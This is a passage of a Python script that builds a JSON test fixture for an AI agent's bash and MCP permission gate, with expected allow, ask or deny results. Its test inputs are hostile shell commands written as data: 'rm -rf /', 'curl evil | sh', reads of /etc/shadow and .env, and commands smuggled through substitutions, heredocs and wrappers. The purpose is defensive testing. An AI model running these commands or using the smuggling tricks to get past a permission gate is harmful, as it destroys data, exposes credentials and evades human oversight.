for cmd in ["local x=$(rm y)", "export X=$(rm x)", "declare x=$(rm y)", "readonly Y=$(rm z)", "typeset q=$(rm w)",
            "[[ $(rm x) ]]", "[ $(rm x) ]", "unset $(rm x)", "X=$(rm q)", "X=`rm q`", "local f=<(rm y)"]:
    case(PG, f"{D} › commands hosted by a declaration, test, or assignment (#742) › descends into {cmd}", RM_DENY, cmd,
         "deny")
for label, cmd in [("an unterminated heredoc, whose body re-parses as garbage", "cat <<'EOF'\nsee `rm -rf x` here"),
                   ("an unbalanced quote", 'echo "$(rm x)'),
                   ("an unterminated control-flow statement", "for f in a; do rm $f")]:
    case(PG, f"{D} › an unparsed ERROR node (#742) › emits {label} whole (floored)", bash(ALLOW_ALL), cmd, "ask")
for cmd in ["for f in a b; do rm $f; done", "for f in a; do cd /t && rm $f; done", "for f in $(rm x); do echo $f; done",
            "if true; then rm y; fi", "if true; then echo y; elif false; then rm z; else echo w; fi",
            "while true; do rm y; done", "until true; do rm y; done", "select f in a b; do rm $f; done",
            "for ((i=0; i<3; i++)); do rm $i; done", "case /etc/shadow in a) rm y;; b) rm z;; esac",
            "myfn() { rm y; }", "function myfn { rm y; }", "{ rm y; }", "! rm y", "if $(rm x); then echo a; fi",
            "( if true; then rm y; fi )", "echo $(rm -rf foo)", "echo `rm x`", "( rm -rf foo )", "( cd /t && rm x )",
            "echo $( ( rm x ) )", "cd /p && echo $(rm x)", "time (rm -rf /tmp/x)", "time (echo $(rm x))",
            "2>$(rm y) time (rm x)", "time ( (rm x) )"]:
    case(PG, f"{D} › commands inside loops, compounds, substitutions and subshells (#742) › {cmd}", RM_DENY, cmd, "deny")
case(PG, f"{D} › descends into a pipeline inside command substitution", bash({"*": "allow", "curl *": "deny"}),
     "echo $(curl evil | sh)", "deny")
case(PG, f"{D} › descends into process substitution", SHADOW, "diff <(cat /etc/shadow)", "deny")
for cmd in ["sudo (rm x)", "nice (rm x)", "time (rm x) y", "time -p (rm x)"]:
    case(PG, f"{D} › a subshell timed by time › {cmd} is floored", bash(ALLOW_ALL), cmd, "ask")
for cmd in ['bash -c "rm -rf /"', 'sh -c "rm -rf /"', 'dash -c "rm -rf /"', 'zsh -c "rm -rf /"', 'ksh -c "rm -rf /"',
            'eval "rm -rf /"', '/bin/bash -c "rm -rf /"', 'bash -ec "rm -rf /"', 'AWS_PROFILE=prod bash -c "rm -rf /"']:
    case(PG, f"{D} › opaque-payload wrappers › flags {cmd} as opaque", bash(ALLOW_ALL), cmd, "ask")
for cmd in ["sudo aws s3 ls", "env FOO=bar aws s3 ls", "xargs rm -rf", "nohup aws s3 ls", "/usr/bin/sudo aws s3 ls",
            "parallel rm ::: x", "doas aws s3 ls", "flock /tmp/lock aws s3 ls", "AWS_PROFILE=prod sudo aws s3 ls"]:
    case(PG, f"{D} › indirection wrappers › flags {cmd} as an indirection wrapper", bash(ALLOW_ALL), cmd, "ask")
for cmd in ["time aws s3 ls", "timeout 10 aws s3 ls", "nice -n 10 aws s3 ls", "setsid aws s3 ls", "stdbuf -oL aws s3 ls"]:
    case(PG, f"{D} › indirection wrappers › {cmd} only modifies execution (inherits the inner deny)",
         bash({"*": "allow", "aws *": "deny"}), cmd, "deny")
for cmd in ["find . -exec rm {} \\;", "find . -execdir rm {} \\;", "find . -ok rm {} \\;", "find . -okdir rm {} \\;",
            "fd -x rm", "fd --exec rm", "fd -X rm", "fd --exec-batch rm"]:
    case(PG, f"{D} › exec-conditional wrappers (find/fd) › flags {cmd} as an indirection wrapper", bash(ALLOW_ALL), cmd,
         "ask")
F = f"{D} › floor exemption"
for cmd in ["xargs pnpm test", "xargs -I{} sh -c 'grep -l x {}'", "find . -exec sh -c 'grep x' \\;",
            "xargs sort -o /tmp/x", "xargs sed -i s/a/b/", "xargs sed 'w out'", "xargs awk -f p.awk",
            "timeout --sig KILL 5 rm -rf /", "time sudo rm -rf x", "timeout {5,sudo} rm x", "timeout $D rm x",
            'timeout "$D" rm x', "timeout $(echo 5 sudo) rm x", "timeout * rm x", "nice -n $N rm x", "nice -n$N rm x",
            "stdbuf -o$M rm x", "time { rm -rf /tmp/x; }", "xargs find . '-delete'", 'xargs find . "-delete"',
            "xargs sort '-o' /tmp/x", "xargs fd foo '--exec' rm", "xargs find . $A", "xargs grep foo > out.txt",
            "xargs grep foo >> out.txt", "xargs grep foo >| out.txt", "xargs grep foo &> out.txt",
            "cat a | xargs grep b > out", "( xargs grep foo ) > out", "if true; then xargs grep -l x; fi > out.txt",
            "xargs grep foo > $OUT", "xargs grep foo >${OUT}", "xargs grep foo > ${DIR}/log",
            "xargs grep foo > $(mktemp)", ">/tmp/o xargs grep foo", "xargs grep x 2>/dev/null > out.txt",
            "xargs grep -l x 2>/dev/stdout", 'xargs grep -l x 2>"/dev/null"', "xargs pnpm test 2>/dev/null"]:
    case(PG, f"{F} › does not exempt {cmd}", bash(ALLOW_ALL), cmd, "ask")
U = f"{D} › units from a parse tree-sitter could not resolve (#840) / dropped entirely (#875)"
LINE_840 = "git add -A . && git commit -F - <<'MSG' 2>&1 | rm -rf /tmp/x\nmsg\nMSG"
case(PG, f"{U} › marks a command the failure reaches only through its statement", bash(ALLOW_ALL), LINE_840, "ask")
case(PG, f"{U} › enumerates the piped command the recovery left in no unit", bash({"*": "allow", "rm -rf *": "deny"}),
     LINE_840, "deny")
case(PG, f"{U} › leaves a statement beside the failed one unmarked", RM_DENY,
     "echo hi > out.txt <> rw.txt; rm -rf /tmp/y", "deny")
case(PG, f"{U} › appends the salvaged unit after the units the primary parse produced", bash(ALLOW_ALL),
     "cat <<'MSG' 2>&1 | tail -4\nmsg\nMSG", "ask")
case(PG, f"{U} › flags a salvaged indirection wrapper like any other", bash(ALLOW_ALL),
     "cat <<'MSG' 2>&1 | sudo rm -rf /\nmsg\nMSG", "ask")
case(PG, f"{U} › salvages nothing from a region whose own re-parse fails", bash(ALLOW_ALL), "cat <> rw.txt", "ask")
H = f"{D} › a heredoc tail the grammar cannot parse"
for label, line in [("a `;` command", "cat <<EOF ; rm -rf x"), ("an `&` command", "cat <<EOF & rm -rf x"),
                    ("a descriptor-prefixed heredoc", "cat 2<<EOF ; rm -rf x"),
                    ("a descriptor the grammar lexed into the delimiter", "cat 0<<EOF | rm -rf x")]:
    case(PG, f"{H} › enumerates the command after {label}", RM_DENY, f"{line}\nb\nEOF", "deny")
case(PG, f"{H} › enumerates the command after a heredoc inside a compound statement", RM_DENY,
     "if true; then cat <<EOF ; rm x\nb\nEOF\nfi", "deny")
case(PG, "BashProgram › derives both slices from a single parse (path)", path({"*.env": "deny"}),
     "cat .env /etc/hosts", "deny")
case(PG, "BashProgram › derives both slices from a single parse (external)", EXT_DENY, "cat .env /etc/hosts", "deny")
A = "BashProgram › effect attribution (#807)"
case(PG, f"{A} › carries a redirect's write onto its destination", path({"/tmp/out.txt": "deny"}, "path_write"),
     "cat /etc/hosts > /tmp/out.txt", "deny")
case(PG, f"{A} › carries a core word's read onto its rule candidate", path({"/etc/hosts": "deny"}, "path_read"),
     "cat /etc/hosts", "deny")
case(PG, f"{A} › a word after a redirect's target › carries the command's read, not the operator's write",
     path({"/etc/hosts": "deny"}, "path_read"), "grep pat 2>/dev/null /etc/hosts", "deny")
case(PG, f"{A} › a word after a redirect's target › carries the command's read after a close operator",
     path({"/etc/hosts": "deny"}, "path_read"), "cat >&- /etc/hosts", "deny")
case(PG, f"{A} › a word after a redirect's target › reaches the command's retraction guards", EXT_DENY,
     "find /tmp/x 2>/dev/null -delete", "deny")
case(PG, f"{A} › proves nothing for a token a non-core command owns", EXT_DENY, "rm -rf /tmp/gone", "deny")
case(PG, f"{A} › two attributions of one resolved path › folds to a single external access", EXT_DENY,
     "cat /etc/hosts > /etc/hosts", "deny")
P = "BashProgram › path operands of a command the parse dropped (#875)"
case(PG, f"{P} › projects the dropped command's operand as a rule candidate", SHADOW,
     "cat <<'MSG' 2>&1 | cat /etc/shadow\nmsg\nMSG", "deny")
case(PG, f"{P} › flags the dropped command's operand as an external access", EXT_DENY,
     "cat <<'MSG' 2>&1 | cat /etc/shadow\nmsg\nMSG", "deny")
case(PG, f"{P} › keeps a relative operand literal rather than resolving it against the cwd", path({"../secret": "deny"}),
     "cd /outside && cat <<'MSG' 2>&1 | cat ../secret\nmsg\nMSG", "deny")
case(PG, f"{P} › projects a redirect written after a heredoc the grammar cannot parse as a write",
     {"*": "allow", "external_directory_write": "deny"}, "cat <<EOF arg > /tmp/o\nb\nEOF", "deny")
I = "BashProgram › an interpreter's inline script (#863)"
case(PG, f"{I} › still projects a script-hosted command's operand", EXT_DENY, 'node -e "$(cat /etc/shadow)"', "deny")
case(PG, f"{I} › still flags a script file's operand outside the tree", EXT_DENY, "node build.js /etc/passwd", "deny")
case(PG, f"{I} › raises no external access for the reported command", EXT_DENY, "\n".join([
    'node -e "', "// check which packages are installed", "const fs = require('fs');",
    "for (const pkg of ['pkg-a','pkg-b']) {",
    "  try { console.log(pkg, require.resolve(pkg + '/package.json')); } catch { console.log(pkg, '(not installed)'); }",
    "}", '"']), "allow")

# ── access-intent/bash/token-collection.test.ts: the operand reaches external_directory ──
K = "collectCommandTokens — pattern-first commands"
for test, cmd in [("sed -f: treats the next argument as a file path", "sed -f /scripts/script.sed file.txt"),
                  ("grep: skips the first positional (pattern) and collects file arguments",
                   "grep pattern /etc/hosts /etc/passwd"),
                  ("grep -e: with explicit -e flag, all positionals are file arguments", "grep -e pattern /etc/hosts"),
                  ("grep: end-of-flags (--)", "grep -- pattern /etc/hosts"),
                  ("sd: skips the first two positionals", "sd find replace /etc/hosts other.txt"),
                  ("rg: skips the pattern positional and collects file/dir arguments", "rg pattern /etc/")]:
    case(TC, f"{K} › {test}", EXT_DENY, cmd, "deny")
for cmd in ["grep -A 3 pattern /etc/passwd", "grep -B 2 pattern /etc/passwd", "grep -C 4 pattern /etc/passwd",
            "grep -m 5 pattern /etc/passwd", "rg -C 10 pattern /etc/passwd", "grep -A $N pattern /etc/passwd",
            "grep -A ${N} pattern /etc/passwd", "grep -A $(echo 3) pattern /etc/passwd",
            "grep -A $(cat /etc/shadow) pattern /etc/passwd", "grep -f $(echo x) /etc/passwd",
            "sd -n 3 find replace /etc/hosts"]:
    case(TC, f"{K} › a consumed flag argument, whatever node type it is (#823) › {cmd}", EXT_DENY, cmd, "deny")
case(TC, f"{K} › still projects the operands of a command hosted in a consumed argument", SHADOW,
     "grep -A $(cat /etc/shadow) pattern /etc/passwd", "deny")
for cmd in ["grep 42 /etc/passwd", "grep $PATTERN /etc/passwd", "grep ${PATTERN} /etc/passwd",
            "grep $((1 + 2)) /etc/passwd", "grep $'x' /etc/passwd", "rg 3 /etc/passwd", "sd 1 2 /etc/hosts",
            "grep $(cat /tmp/p) /etc/passwd", "grep <<< text pattern /etc/passwd"]:
    case(TC, f"{K} › a pattern positional the parser does not type as an argument (#823) › {cmd}", EXT_DENY, cmd, "deny")
for cmd in ["grep --regexp harmless /etc/passwd", "grep --regexp=harmless /etc/passwd", "grep -eharmless /etc/passwd",
            "grep -e harmless /etc/passwd", "sed --expression 's/a/b/' /etc/hosts", "sed --expression=s/a/b/ /etc/hosts",
            "sed -e s/a/b/ /etc/hosts", "gawk --source '{print}' /etc/passwd",
            "grep --file /tmp/patterns /etc/passwd", "grep --file=/tmp/patterns /etc/passwd",
            "grep -f/tmp/patterns /etc/passwd", "grep -f /tmp/patterns /etc/passwd",
            "grep -A3 pattern /etc/passwd", "grep --after-context=3 pattern /etc/passwd",
            "grep --after-context 3 pattern /etc/passwd", "rg --glob '!docs' pattern /etc/passwd",
            "rg -g!docs pattern /etc/passwd", "rg --replace X pattern /etc/passwd", "rg -tpy pattern /etc/passwd",
            "sd -f i find replace /etc/hosts", "sd --flags i find replace /etc/hosts",
            "sed -i '' 's/a/b/' /etc/hosts", "sed -i 's/a/b/' /etc/hosts", "sed -i.bak 's/a/b/' /etc/hosts",
            "grep --context 2 pattern /etc/passwd", "rg --context 2 pattern /etc/passwd",
            "grep -C 2 pattern /etc/passwd", "grep --context=2 pattern /etc/passwd",
            "gawk --field-separator , '{print}' /etc/passwd", "gawk --file /tmp/prog.awk data.txt",
            "awk -F, '{print $1}' /etc/passwd", "awk -v x=1 '{print}' /etc/passwd",
            "rg -g'!docs' pattern /etc/passwd", "grep -ie pattern /etc/passwd"]:
    case(TC, f"{K} › flag spellings a pattern-first command accepts (#823) › {cmd}", EXT_DENY, cmd, "deny")
case(TC, f"{K} › the pattern file of grep --file= is read (path_read)", path({"/tmp/patterns": "deny"}, "path_read"),
     "grep --file=/tmp/patterns /etc/passwd", "deny")
G = "collectCommandTokens — generic commands"
for test, cmd in [("collects all argument tokens after the command name", "cat /etc/hosts /etc/passwd"),
                  ("skips variable assignment prefixes", "FOO=/bar cat /etc/hosts"),
                  ("a command hosted in a prefix position (#742) › substitution in command-name position",
                   "$(cat /etc/shadow)"),
                  ("a command hosted in a prefix position (#742) › substitution in a prefix assignment",
                   "FOO=$(cat /etc/shadow) echo hi"),
                  ("a command hosted in a prefix position (#742) › prefix-hosted operand for a pattern-first command",
                   "FOO=$(cat /etc/shadow) grep -f p x")]:
    case(TC, f"{G} › {test}", EXT_DENY, cmd, "deny")
R = "collectRedirectTokens"
for test, cmd in [("collects the destination path from a stdout redirect", "cat /etc/hosts > /tmp/out.txt"),
                  ("collects the destination path from an append redirect", "echo hello >> /tmp/log.txt"),
                  ("collects the source path from a stdin redirect", "cat < /etc/hosts"),
                  ("operands of a hosted nested command (#741) › substitution used as the destination",
                   "echo hi > $(cat /etc/shadow)"),
                  ("operands of a hosted nested command (#741) › process substitution read as input",
                   "cat < <(cat /etc/shadow)"),
                  ("operands of a hosted nested command (#741) › destination text and a concatenated operand",
                   "echo hi > /tmp/$(cat /etc/shadow)")]:
    case(TC, f"{R} › {test}", EXT_DENY, cmd, "deny")
case(TC, f"{R} › collects the destination path from an append redirect (external_directory_write)",
     {"*": "allow", "external_directory_write": "deny"}, "echo hello >> /tmp/log.txt", "deny")
C = "collectPathCandidateTokens"
case(TC, f"{C} › operands hosted in a heredoc body (#741) › collects the operand of an interpolating heredoc body",
     EXT_DENY, "cat <<EOF\n$(cat /etc/shadow)\nEOF", "deny")
for label, cmd in [("single-quoted", "cat <<'EOF'\n$(cat /etc/shadow)\nEOF"),
                   ("double-quoted", 'cat <<"EOF"\n$(cat /etc/shadow)\nEOF')]:
    case(TC, f"{C} › operands hosted in a heredoc body (#741) › collects nothing from a {label} heredoc body",
         EXT_DENY, cmd, "allow")
case(TC, f"{C} › operands hosted in a heredoc body (#741) › never collects heredoc prose, even alongside a substitution",
     SHADOW, "cat <<EOF\n/etc/passwd is prose\n$(cat /etc/shadow)\nEOF", "deny")
case(TC, f"{C} › operands hosted in a heredoc body (#741) › never collects heredoc prose (prose alone)",
     {"*": "allow", "path": {"*": "allow", "/etc/passwd": "deny"}}, "cat <<EOF\n/etc/passwd is prose\nEOF", "allow")
case(TC, f"{C} › operands hosted in a heredoc body (#741) › collects the operand of a herestring substitution",
     EXT_DENY, "cat <<< $(cat /etc/shadow)", "deny")
case(TC, f"{C} › recurses into command substitution to collect nested tokens", EXT_DENY, "cat $(echo /etc/hosts)",
     "deny")
O = "embedded --opt=value extraction (#645)"
for test, cmd in [("emits the value of a long option carrying an inline path", "grep --file=/tmp/patterns target"),
                  ("emits the embedded value for a non-pattern-first command too", "tar --directory=/etc -xf a.tar"),
                  ("splits the single-dash form", "cat -o=/tmp/out"),
                  ("keeps only the first '=' as the separator", "cat --opt=/tmp/a=b"),
                  ("a pattern-first command's own flags are not split blindly (#823) › still splits an unrecognized option's embedded value",
                   "grep --exclude-dir=/etc/skel pattern f")]:
    case(TC, f"{O} › {test}", EXT_DENY, cmd, "deny")
case(TC, f"{O} › a pattern-first command's own flags are not split blindly (#823) › suppresses a recognized pattern flag's embedded value",
     EXT_DENY, "grep --regexp=/etc/passwd file.txt", "allow")
case(TC, "effect attribution › retracts a guarded word's claim when an option withdraws it", EXT_DENY,
     "find /etc -delete", "deny")
case(TC, "effect attribution › proves nothing for a command outside the core", EXT_DENY, "pnpm test /etc/hosts", "deny")
case(TC, "effect attribution › proves nothing for a path-qualified core word", EXT_DENY, "/tmp/evil/cat /etc/hosts",
     "deny")

# ── the 20.7.3 gate-pipeline oracle: mcp calls that name only a tool, and variants ──
MCP_CONFIGS = {
    "mcp: deny": {"*": "allow", "mcp": "deny"},
    "mcp: {exa_search: deny}": {"*": "allow", "mcp": {"*": "allow", "exa_search": "deny"}},
    "mcp: {exa_*: deny}": {"*": "allow", "mcp": {"*": "allow", "exa_*": "deny"}},
    "mcp: {exa_search: ask}": {"*": "allow", "mcp": {"*": "allow", "exa_search": "ask"}},
    "mcp: {exa:search: deny}": {"*": "allow", "mcp": {"*": "allow", "exa:search": "deny"}},
    "mcp: {exa:*: deny}": {"*": "allow", "mcp": {"*": "allow", "exa:*": "deny"}},
    "mcp: {*: deny, exa:search: allow}": {"*": "allow", "mcp": {"*": "deny", "exa:search": "allow"}},
    "mcp: {*: deny, exa_search: allow}": {"*": "allow", "mcp": {"*": "deny", "exa_search": "allow"}},
    "mcp: {*: ask, exa:*: allow}": {"*": "ask", "mcp": {"*": "ask", "exa:*": "allow"}},
    "mcp: {exa_search: deny} (no mcp catch-all)": {"*": "allow", "mcp": {"exa_search": "deny"}},
    "mcp: {exa_search: deny} alone": {"mcp": {"exa_search": "deny"}},
    "mcp: {exa: deny}": {"*": "allow", "mcp": {"*": "allow", "exa": "deny"}},
    "mcp: {exa_search*: deny}": {"*": "allow", "mcp": {"*": "allow", "exa_search*": "deny"}},
    "mcp: {*: ask}, *: deny": {"*": "deny", "mcp": {"*": "ask"}},
    "mcp: {*: allow, exa_*: ask, exa_search: deny}": {"*": "allow", "mcp": {"*": "allow", "exa_*": "ask", "exa_search": "deny"}},
    "mcp: {*: allow, exa_search: deny, exa_*: ask}": {"*": "allow", "mcp": {"*": "allow", "exa_search": "deny", "exa_*": "ask"}},
    "*: ask": {"*": "ask"},
    "{} (defaults)": {},
    "*: deny": {"*": "deny"},
    "*: allow": {"*": "allow"},
}
MCP_INPUTS = [
    {"tool": "exa:search"}, {"tool": "exa_search"}, {"tool": "search"},
    {"tool": "exa:search", "args": {"query": "x"}}, {"tool": "exa:search", "args": "{\"query\":\"x\"}"},
    {"server": "exa", "tool": "search"}, {"server": "exa"}, {"connect": "exa"},
    {"describe": "exa:search"}, {"search": "exa"}, {},
]


def mcp_cases(oracle: Path):
    scenarios = [{"global": {"permission": perm}, "project": None, "agents": {}, "cwd": CWD,
                  "queries": [{"tool": "mcp", "input": i} for i in MCP_INPUTS]} for perm in MCP_CONFIGS.values()]
    done = subprocess.run(["npx", "tsx", "src/zz-gate-oracle.ts"], input=json.dumps(scenarios),
                          capture_output=True, text=True, cwd=oracle, check=True)
    answers = json.loads(done.stdout)
    out = []
    for (label, perm), answer in zip(MCP_CONFIGS.items(), answers):
        for inp, result in zip(MCP_INPUTS, answer["results"]):
            decided = result.get("decidedBy") or {}
            want = {"state": result["state"]}
            if decided.get("matchedPattern") is not None:
                want["matchedPattern"] = decided["matchedPattern"]
            out.append({"source": f"{ORACLE} › mcp {json.dumps(inp)} under {label}", "config": perm, "cwd": CWD,
                        "tool": "mcp", "input": inp, "want": want})
    return out


def main() -> None:
    oracle = Path(sys.argv[1] if len(sys.argv) > 1 else "/tmp/oracle22u/package")
    cases = CASES + mcp_cases(oracle)
    for i, c in enumerate(cases):
        c["name"] = f"{i:03d}"
    fixture = {
        "source": "gotgenes/pi-packages (newer pi-permission-system) tests, hand-ported; mcp cases from " + ORACLE,
        "ported_files": sorted({BC, WB, MM, BE, BP, PG, TC, CE}),
        "cases": [{"name": c.pop("name"), **c} for c in cases],
    }
    target = Path(__file__).resolve().parents[2] / "tests/fixtures/bash_newer_upstream.json"
    target.write_text(json.dumps(fixture, indent=1, ensure_ascii=False) + "\n")
    print(f"wrote {len(cases)} cases ({len(CASES)} ported, {len(cases) - len(CASES)} from the oracle) to {target}")


if __name__ == "__main__":
    main()
